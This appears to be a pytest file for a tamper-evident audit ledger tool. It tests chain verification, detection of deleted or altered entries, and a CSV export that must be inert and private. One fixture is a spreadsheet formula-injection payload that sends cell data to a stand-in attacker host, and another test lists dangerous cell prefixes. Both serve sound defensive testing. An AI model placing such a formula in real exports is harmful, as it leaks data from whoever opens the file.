"""The ledger as an auditor meets it: is it whole, what does it say, and can it be checked without us?"""

import csv
import io
import json
import re
import sqlite3
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from mutuals.cli import main
from mutuals.cli.ledger_export import cells
from mutuals.domain.ledger import COLUMNS, FIRST, EntryKind, LedgerEntry, entry, sealed
from mutuals.domain.ledger_verification import ChainVerifier
from mutuals.domain.model import Account, Action, ActKind, ActState, Brand
from mutuals.storage.store import SqlStore
from tests.support.databases import START, fresh_store
from tests.support.values import ANA, BRAND, action

pytestmark = pytest.mark.smoke

ROOT = Path(__file__).parents[2]
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"refund")'


def chain(count: int = 4) -> list[LedgerEntry]:
    """A sound chain."""
    made, prev = [], FIRST
    for number in range(1, count + 1):
        one = entry(EntryKind.BEGAN, action(f"x{number}"), number=number, at=START, prev=prev)
        made.append(sealed(one))
        prev = made[-1].hash
    return made


def walked(entries: list[LedgerEntry], head: str | None = None) -> ChainVerifier:
    walk = ChainVerifier(wanted=head).along(entries)
    walk.end()
    return walk


def test_a_sound_chain_is_whole_and_gives_its_head():
    made = chain()

    assert (walked(made).broken, walked(made).head, walked(made).under_way) == (None, made[-1].hash, 4)


@pytest.mark.parametrize("name", [one for one in COLUMNS if one not in {"number", "prev", "hash", "at"}])
def test_a_change_of_any_field_is_found_where_it_is(name: str):
    made = chain()
    change: dict[str, Any] = {name: "changed"}
    made[1] = replace(made[1], **change)

    found = walked(made).broken
    assert found is not None
    assert found.number == 2
    assert "changed" in found.sentence


@pytest.mark.parametrize(
    ("attack", "number"),
    [
        (lambda made: [made[0], *made[2:]], 2),
        (lambda made: made[1:], 1),
        (lambda made: [made[0], sealed(replace(made[1], text="never said")), *made[2:]], 3),
        (lambda made: [made[0], made[2], made[1], made[3]], 2),
        (lambda made: [*made, sealed(replace(made[3], number=5, prev=made[1].hash))], 5),
    ],
    ids=["taken out", "first one taken out", "changed with a new hash", "swapped", "put in"],
)
def test_what_was_taken_out_put_in_or_replaced_is_found(attack: Any, number: int):
    found = walked(attack(chain())).broken

    assert found is not None
    assert found.number == number


def test_a_cut_end_is_found_with_the_head_that_was_written_down():
    made = chain()

    assert walked(made[:2]).broken is None
    assert walked(made, made[2].hash).found_at == 3
    found = walked(made[:2], made[2].hash).broken
    assert found is not None
    assert "taken from its end" in found.sentence


# --- the commands ----------------------------------------------------------------------------


@pytest.fixture
async def folder(tmp_path: Path) -> Path:
    """A database with two brands: one has replied and begun to follow, the other has begun a reply."""
    async with fresh_store(tmp_path) as store:
        await store.put_brand(Brand(BRAND, "x", Account(BRAND, "KettleCo", "Kettle Co")))
        await store.put_brand(Brand("901", "x", Account("901", "teahouse", "Tea House")))
        first = action(text=FORMULA, actor=replace(ANA, name="@na"))
        await _write(store, first)
        async with store.transaction(BRAND) as tx:
            await tx.actions.put(
                replace(first, state=ActState.DONE, external_id="5001"), was=ActState.INTENT, was_attempt=0
            )
        await _write(store, action("x2", ActKind.FOLLOW, text=None))
        await _write(store, replace(action("x3", text='\'tis\r\nsoon, "promised"'), brand_id="901"))
    return tmp_path


async def _write(store: SqlStore, one: Action) -> None:
    async with store.transaction(one.brand_id) as tx:
        assert await tx.actions.begin(one) is None


def mutuals(folder: Path, *words: str) -> Result:
    variables = {
        "MUTUALS_DATABASE_URL": f"sqlite:///{folder}/mutuals.db",
        "MUTUALS_SETTINGS_FILE": "",
    }
    return CliRunner().invoke(main.app, list(words), env=variables)


def tamper(folder: Path, sql: str) -> None:
    """Somebody with the database file removes the guards first."""
    with sqlite3.connect(folder / "mutuals.db") as database:
        for name in ("ledger_no_update", "ledger_no_delete"):
            database.execute(f"DROP TRIGGER {name}")
    database.close()
    tamper_again(folder, sql)


def tamper_again(folder: Path, sql: str) -> None:
    with sqlite3.connect(folder / "mutuals.db") as database:
        database.execute(sql)
    database.close()


def test_verify_says_that_all_is_well_and_where_the_head_is(folder: Path):
    done = mutuals(folder, "ledger", "verify")

    assert done.exit_code == 0, done.output
    assert "@KettleCo: unbroken, 3 entries, 1 without an outcome yet." in done.stdout
    assert "@teahouse: unbroken, 1 entry, 1 without an outcome yet." in done.stdout
    assert len(re.findall(r"head: [0-9a-f]{64}\n", done.stdout)) == 2
    assert not (folder / "mutuals.db.key").exists()  # an auditor needs no key, and gets none


def test_verify_names_the_entry_that_was_changed_and_ends_with_1(folder: Path):
    tamper(folder, "UPDATE ledger SET actor_name = 'Ben' WHERE number = 2")
    done = mutuals(folder, "ledger", "verify", "--brand", "@kettleco")
    as_json = json.loads(mutuals(folder, "ledger", "verify", "--json").stdout)

    assert done.exit_code == 1
    assert "BROKEN, 3 entries. Entry 2 is not what was written" in done.stdout
    assert "What stands before entry 2 is as it was written." in done.stdout
    assert [as_json["ok"], *(one["ok"] for one in as_json["brands"])] == [False, False, True]
    assert as_json["brands"][0]["broken"]["entry"] == 2


def head_of(folder: Path) -> str:
    found = json.loads(mutuals(folder, "ledger", "verify", "--json", "--brand", "kettleco").stdout)
    return str(found["brands"][0]["head"])


def test_verify_with_a_head_finds_that_the_end_was_cut_also_without_the_anchor(folder: Path):
    head = head_of(folder)
    known = mutuals(folder, "ledger", "verify", "--brand", "kettleco", "--head", head)
    tamper(folder, "DELETE FROM ledger WHERE number = 3")
    tamper_again(folder, "DELETE FROM action WHERE id = 'x2'")
    (folder / "mutuals.db.anchor").unlink()
    without = mutuals(folder, "ledger", "verify", "--brand", "kettleco")
    cut = mutuals(folder, "ledger", "verify", "--brand", "kettleco", "--head", head)
    line = mutuals(
        folder, "ledger", "verify", "--brand", "kettleco", "--head", f"3 entries, ends {head[:16]}"
    )

    assert (known.exit_code, without.exit_code, cut.exit_code, line.exit_code) == (0, 0, 1, 1)
    assert "The head you gave is that of entry 3, 0 came since." in known.stdout
    assert "anchor: none yet in" in without.stdout
    assert "taken from its end" in cut.stdout


def test_verify_by_itself_finds_that_the_end_was_cut_off_or_all_was_deleted(folder: Path):
    tamper(folder, "DELETE FROM ledger WHERE brand_id = '900' AND number = 3")
    cut = mutuals(folder, "ledger", "verify")
    tamper_again(folder, "DELETE FROM ledger")
    gone = mutuals(folder, "ledger", "verify")

    assert (cut.exit_code, gone.exit_code) == (1, 1)
    assert (
        "@KettleCo: BROKEN, 2 entries. The ledger ends with entry 2, and its anchor knows of 3" in cut.stdout
    )
    assert "@teahouse: unbroken" in cut.stdout
    assert "The follow x2, begun" in cut.stdout
    assert "@teahouse: BROKEN, 0 entries. The ledger is empty, and its anchor knows of 1" in gone.stdout
    assert "mutuals ledger accept --brand teahouse --why WHY" in gone.stdout


def test_a_person_who_knows_why_accepts_a_shorter_ledger_and_that_stays_in_it(folder: Path):
    tamper(folder, "DELETE FROM ledger WHERE brand_id = '900' AND number = 3")
    done = mutuals(folder, "ledger", "accept", "--why", "The disk's copy of Monday")
    after = mutuals(folder, "ledger", "verify")
    again = mutuals(folder, "ledger", "accept", "--why", "Once more")

    assert (done.exit_code, after.exit_code, again.exit_code) == (0, 0, 0), after.stdout
    assert "@KettleCo: accepted as it is; an entry says so." in done.stderr
    assert "Entry 3: the ledger was accepted as it is, " in after.stdout
    assert "The disk's copy of Monday. The anchor knew of 3 entries, the last one " in after.stdout
    assert "Nothing to accept" in again.stderr


def test_an_entry_that_was_changed_is_never_accepted(folder: Path):
    tamper(folder, "UPDATE ledger SET actor_name = 'Ben' WHERE number = 2")
    done = mutuals(folder, "ledger", "accept", "--why", "Just a name")

    assert done.exit_code == 1
    assert "That can't be accepted" in done.stderr
    assert mutuals(folder, "ledger", "verify").exit_code == 1


def test_an_anchor_that_cant_be_read_is_no_proof(folder: Path):
    (folder / "mutuals.db.anchor").write_text("[]")
    done = mutuals(folder, "ledger", "verify")
    mutuals(folder, "ledger", "accept", "--why", "A full disk cut it off")

    assert done.exit_code == 1
    assert "can't be read: it holds something else." in done.stdout
    assert mutuals(folder, "ledger", "verify").exit_code == 0


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["verify", "--brand", "nobody"], "There is no brand called nobody. Known: @KettleCo, @teahouse."),
        (["verify", "--head", "ab"], "A head belongs to one brand. Say which one with: --brand HANDLE"),
        (["export", "/no/such/folder/a.csv"], "can't be written: No such file or directory."),
    ],
)
def test_a_mistake_in_the_command_gets_a_sentence(folder: Path, words: list[str], said: str):
    done = mutuals(folder, "ledger", *words)

    assert done.exit_code == 1
    assert said in done.stderr


def test_the_export_is_whole_inert_and_private(folder: Path):
    done = mutuals(folder, "ledger", "export", str(folder / "acts.csv"))
    file = folder / "acts.csv"
    rows = list(csv.DictReader(io.StringIO(file.read_bytes().decode(), newline="")))

    assert done.exit_code == 0, done.output
    assert "4 entries written" in done.stderr
    assert "━" not in done.output  # no bar where nobody watches
    assert file.stat().st_mode & 0o777 == 0o600
    assert [(one["brand_id"], one["entry"]) for one in rows] == [
        (BRAND, "began"), (BRAND, "done"), (BRAND, "began"), ("901", "began")
    ]  # fmt: skip
    assert rows[0]["text"] == f"'{FORMULA}"
    assert rows[0]["actor_name"] == "'@na"
    assert rows[3]["text"] == "''tis\r\nsoon, \"promised\""
    assert rows[2]["text"] == ""
    dangerous = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(dangerous)]


def test_every_cell_of_an_export_stands_in_quotes_so_that_a_semicolon_begins_none(folder: Path):
    mutuals(folder, "ledger", "export", str(folder / "acts.csv"))

    header = (folder / "acts.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header == ",".join(f'"{one}"' for one in COLUMNS)


def test_what_an_earlier_export_left_behind_makes_no_export_readable_for_others(folder: Path):
    elsewhere = folder / "elsewhere"
    elsewhere.touch(mode=0o666)
    (folder / "acts.csv.partial").symlink_to(elsewhere)
    done = mutuals(folder, "ledger", "export", str(folder / "acts.csv"))

    assert done.exit_code == 0, done.output
    assert (folder / "acts.csv").stat().st_mode & 0o777 == 0o600
    assert elsewhere.read_text() == ""


def test_the_export_goes_to_standard_output_for_one_brand_since_a_day(folder: Path):
    all_of_it = mutuals(folder, "ledger", "export", "-", "--brand", "teahouse", "--since", "2026-03-02")
    nothing = mutuals(folder, "ledger", "export", "-", "--brand", "teahouse", "--since", "2026-03-03")

    assert len(list(csv.reader(io.StringIO(all_of_it.stdout, newline="")))) == 2
    assert list(csv.reader(io.StringIO(nothing.stdout, newline=""))) == [list(COLUMNS)]


def test_the_page_shows_how_to_verify_an_export_without_us(folder: Path):
    (script,) = re.findall(r"```python\n(.*?)```", (ROOT / "docs" / "ledger.md").read_text(), re.DOTALL)
    file = folder / "acts.csv"
    mutuals(folder, "ledger", "export", str(file))
    told = json.loads(mutuals(folder, "ledger", "verify", "--json").stdout)["brands"]

    def check() -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-c", script, file], capture_output=True, text=True, check=False
        )

    sound = check()
    assert sound.returncode == 0, sound.stderr
    assert all(one["head"] in sound.stdout for one in told)
    file.write_text(file.read_text(encoding="utf-8").replace("5001", "5002"), encoding="utf-8")
    assert "entry 2 of 900 was changed" in check().stderr
    mutuals(folder, "ledger", "export", str(file))
    lines = file.read_text(encoding="utf-8").splitlines(keepends=True)
    file.write_text("".join(lines[:2] + lines[3:]), encoding="utf-8")
    assert "entry 3 of 900 does not follow" in check().stderr


def test_the_page_explains_every_column():
    page = (ROOT / "docs" / "ledger.md").read_text()

    assert all(f"`{name}`" in page for name in COLUMNS)
    assert all(f"`{kind}`" in page for kind in EntryKind)
    assert len(cells(chain()[0])) == len(COLUMNS)
